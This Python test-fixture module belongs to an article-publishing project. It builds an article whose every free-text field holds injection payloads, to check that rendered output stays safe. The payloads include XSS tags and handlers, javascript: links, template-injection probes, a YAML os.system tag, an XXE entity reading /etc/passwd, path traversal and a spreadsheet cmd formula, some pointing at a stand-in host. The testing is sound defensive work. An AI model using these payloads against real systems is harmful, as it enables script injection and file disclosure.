"""Hostile texts, and an article with one in every text field that its schema has."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from hashlib import sha256
from typing import Any, Final

import msgspec
import polib

from malaf.article import Article, json_schema
from malaf.catalogs import update_catalog
from malaf.messages import messages

__all__ = ["ALL", "GROUPS", "free_strings", "hostile_article", "translated", "yaml_of"]

# What would show that a script ran: the page has no such name. `pwn` is in whatever a payload would make.
_RUN: Final = "window.__pwn=1"

GROUPS: Final[Mapping[str, tuple[str, ...]]] = {
    "elements": (
        f"<script>{_RUN}</script>",
        f"<ScRiPt/x>{_RUN}</sCrIpT >",
        f"</script><script>{_RUN}//",
        f"</title></style></textarea></noscript></template><script>{_RUN}</script>",
        f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
        '<script src="//pwn.example/x.js"></script>',
        f"<img src=x onerror={_RUN}>",
        f'<img src="x" data-pwn onerror="{_RUN}"',
        f"<svg/onload={_RUN}><svg><script>{_RUN}</script></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style>",
        f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
        f"<template data-pwn><p>x</p></template><details open ontoggle={_RUN}>",
        f"<body onload={_RUN}><input autofocus onfocus={_RUN}>",
        '<base href="https://pwn.example/"><meta http-equiv="refresh" content="0;url=//pwn.example">',
        "<style>@import '//pwn.example/x.css';*{background:url(//pwn.example/)}</style>",
        '<form action="//pwn.example"><button formaction="javascript:pwn()">x</button></form>',
        '<object data="//pwn.example"></object><embed src="//pwn.example"><link rel=stylesheet href=//pwn.example>',
        "<!-- pwn --> <!-- unclosed",
        "<![CDATA[ pwn ]]> ]]> <?xml pwn?> <!DOCTYPE x [<!ENTITY pwn SYSTEM 'file:///etc/passwd'>]> &pwn;",
        "</p></div></body></html><p id=pwn>",
        "&lt;b&gt; &amp;amp; &#60;script&#62; &#x3c;i&#x3e; &nbsp; &notit; & a&b",
        "<\x20script>x</ script> <script\n>x</script\n>",
    ),
    "attributes": (
        f'" onmouseover="{_RUN}" data-pwn="',
        f"' onfocus='{_RUN}' autofocus data-pwn='",
        f"` onclick=`{_RUN}`",
        f'"><script>{_RUN}</script>',
        f"'><svg/onload={_RUN}>",
        f'">\n<img src=x\nonerror="{_RUN}">',
        f"x\"style=animation-name:x\tonanimationstart={_RUN} y='",
        'x" style="position:fixed;background:url(//pwn.example);width:expression(pwn())',
        "\\\" \\' \\u0022 \\x22 %22 &quot; &#34;",
    ),
    "links": (
        "javascript:pwn() JaVaScRiPt:pwn() java\tscript:pwn() javascript&colon;pwn() &#106;avascript:pwn()",
        "data:text/html,<script>parent.pwn()</script> vbscript:pwn() //pwn.example/ \\\\pwn.example",
        "https://pwn.example/?a=1&b=2 http://pwn.example. www.pwn.example pwn@pwn.example",
        "%3Cscript%3Epwn()%3C/script%3E ..%2f..%2fetc/passwd ../../pwn.html",
    ),
    "templates": (
        "{{ 7*7 }} {% raw %} {# pwn #} {%- set x = 1 -%} {{ config.items() }} {% endraw %}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }} ${7*7} #{7*7} <%= 7*7 %> {{{ pwn }}}",
        "{% include 'pwn' %} {% endblock %} {{ super() }} {% macro x() %}",
        "%s %d %(x)s %(num)s %% {0} {} {x.__class__} {date} {n} {span} {language!r} %",
        '{n, plural, one {pwn} other {#}} plural=(n != 1); nplurals=2; msgid "pwn"\nmsgstr ""',
        "!ENV PWN !!python/object/apply:os.system ['pwn'] &a *a <<: *a key: [x, {y: z}] - | > ? # x",
    ),
    "markdown": (
        "# pwn",
        "[pwn](javascript:pwn()) ![pwn](https://pwn.example/x.png) <https://pwn.example> [pwn][x] [pwn]",
        "[x]: https://pwn.example 'pwn'",
        "*pwn* _pwn_ **pwn** __pwn__ ~~pwn~~ `pwn` ``pwn`` ^pwn^ ==pwn== ++pwn++",
        "{: #pwn .pwn onclick=pwn() } { .pwn } {#pwn}",
        '!!! pwn "pwn"',
        "??? note",
        '--8<-- "/etc/passwd" ;--8<--',
        ':material-pwn: :smile: :fontawesome-brands-x: [[pwn]] (c) -- ... "quotes"',
        "[^1]: pwn [^1] *[pwn]: pwn",
        "---\ntitle: pwn\nmalaf: {kind: home}\n---",
        "```js\npwn()\n```",
        "~~~\npwn\n~~~",
        "    pwn()",
        "> pwn\n>> pwn",
        "- pwn\n1. pwn\n+ pwn\n* pwn",
        "| pwn | pwn |\n|---|---|\n| a | b |",
        "pwn\n===\npwn\n---",
        '<div markdown="1" data-pwn>*pwn*</div>',
        "\\*pwn\\* \\\\ \\",
        '=== "pwn"\n\n    pwn',
    ),
    "data": (
        "=cmd|' /C calc'!A0 =HYPERLINK(\"//pwn.example\") @SUM(1+1) +1+1 -1+1",
        '</script><script type="application/ld+json">{"@type":"pwn"}</script>',
        '","pwn":"x\\" \\\\ \\n \\u003c ${pwn} */ pwn(); /*',
        "');malafText('pwn',[]);// \u2028pwn()\u2029",
        "</feed></entry><entry> </urlset> xml:base='x' ]]&gt;",
        "\U0001f600 \ufdfa ﷽ \u200f\u200e e\u0301 \U0001d54f Ω≈ç√ ´®†¥ ٱلرَّحْمَٰنِ",
        "\u2067open \u2069\u2069closed \u202bopen",
    ),
}
ALL: Final = tuple(payload for group in GROUPS.values() for payload in group)

# An article with all that an article can have. Its free strings are filled by the schema.
_SKELETON: Final[dict[str, Any]] = {
    "schema": 1,
    "slug": "x",
    "language": "ar",
    "source": {"file": "source.txt", "sha256": "", "published": "2026-11-24", "retrieved": "2026-11-25"},
    "headline": {"by": "source"},
    "credits": {"translator": {"en": {"method": "human"}}},
    "image": {"file": "picture.svg"},
    "corrections": [{"date": "2026-11-26"}],
    "topics": ["hostile"],
    "lead": {"id": "p1"},
    "sections": [
        {
            "id": "s1",
            "blocks": [
                {"id": "p2", "kind": "paragraph", "edited": True},
                {"id": "c1", "kind": "caption"},
                {"id": "b1", "kind": "byline"},
                {"id": "z1", "kind": "closing"},
                {"id": "l1", "kind": "list", "items": [{"id": "l1-1", "items": [{"id": "l1-2"}]}]},
                {"id": "t1", "kind": "table", "header": ["", ""], "rows": [{"id": "t1-1", "cells": ["", ""]}]},
            ],
        }
    ],
    "pillars": [{"id": "pillar-1", "block": "l1-1"}],
    "summary": [{"id": "row-1", "block": "t1-1", "figure": "f1"}],
    "figures": [
        {"id": "f1", "sentence": "p1", "value": None, "qualifier": "vague", "modality": "expected"},
        {"id": "f2", "sentence": "p1", "value": 12},
    ],
    "timeline": [
        {"id": "e1", "sentence": "p1", "start": "2026-11-24"},
        {"id": "e2", "sentence": "p1", "modality": "possible"},
    ],
    "people": [{"id": "n1", "sentence": "p1", "country": "SA"}],
    "organisations": [{"id": "o1", "sentence": "p1"}],
    "quotes": [{"id": "q1", "sentence": "p1", "kind": "direct"}, {"id": "q2", "sentence": "p1", "kind": "indirect"}],
    "review": {"state": "reviewed", "date": "2026-11-24"},
}


def free_strings(
    value: Any, schema: Mapping[str, Any], path: tuple[str | int, ...] = ()
) -> Iterator[tuple[str | int, ...]]:
    """The paths below `value` at which its schema allows any text, whether there is one or not."""
    definitions = json_schema()["$defs"]
    for branch in schema.get("anyOf", [schema]):
        if "$ref" in branch:
            branch = definitions[branch["$ref"].rsplit("/", 1)[1]]  # noqa: PLW2901  # what the reference stands for
        if branch.get("type") == "string":
            # EDTF is text of a form that no pattern gives.
            if "pattern" not in branch and not branch.get("description", "").startswith("EDTF"):
                yield path
        elif branch.get("type") == "array" and isinstance(value, list):
            for i, one in enumerate(value):
                yield from free_strings(one, branch["items"], (*path, i))
        elif branch.get("type") == "object" and isinstance(value, dict):
            properties = branch.get("properties", {})
            if properties.get("kind", {}).get("enum", [value.get("kind")]) != [value.get("kind")] and "blocks" in path:
                continue
            for key in {**properties, **{key: {} for key in value}}:
                inner = properties.get(key, branch.get("additionalProperties"))
                if isinstance(inner, dict):
                    yield from free_strings(value.get(key), inner, (*path, key))


def _set(value: Any, path: tuple[str | int, ...], text: str) -> None:
    for step in path[:-1]:
        value = value[step]
    value[path[-1]] = text


def hostile_article(slug: str, payloads: tuple[str, ...]) -> tuple[Article, str, dict[str, str]]:
    """An article with the payloads in every field for text, its source, and the text of each field by its path.

    Each field begins with another payload, and ends with a mark of its own; quotes are words of the lead.
    """
    value: dict[str, Any] = msgspec.convert(_SKELETON, dict[str, Any])
    value = msgspec.json.decode(msgspec.json.encode(value)) | {"slug": slug}
    quote = "\n".join(payloads)
    texts: dict[str, str] = {}
    for n, path in enumerate(list(free_strings(value, json_schema()))):
        turned = payloads[n % len(payloads) :] + payloads[: n % len(payloads)]
        separator = " " if path[-1] in {"unit", "icon", "original_sha256"} else "\n"
        text = f"{separator.join(turned)}\nmark{n}"
        if path == ("lead", "text"):
            text = f"{quote}\nmark{n}"
        elif path[-1] == "quote" or (path[0] == "quotes" and path[-1] == "text"):
            text = quote
        _set(value, path, text)
        texts[".".join(map(str, path))] = text
    source = "\n\n".join(texts.values())
    value["source"] |= {"sha256": sha256(source.encode()).hexdigest(), "url": "https://source.example/?a=\"'<b>&c=1#x"}
    return msgspec.convert(value, Article), source, texts


def translated(article: Article) -> bytes:
    """A catalogue in which each text is translated, into itself and a word more."""
    texts = list(messages(article))
    given = {text.id: polib.POEntry(msgid=text.text, msgstr=f"{text.text} translated") for text in texts}
    return update_catalog(None, texts, name="x", language="en", given=given)


def yaml_of(payload: str) -> str:
    """A text as YAML has it on one line."""
    return (
        msgspec.json.encode(payload)
        .decode()
        .replace("\x7f", "\\u007f")
        .replace("\u2028", "\\u2028")
        .replace("\u2029", "\\u2029")
    )
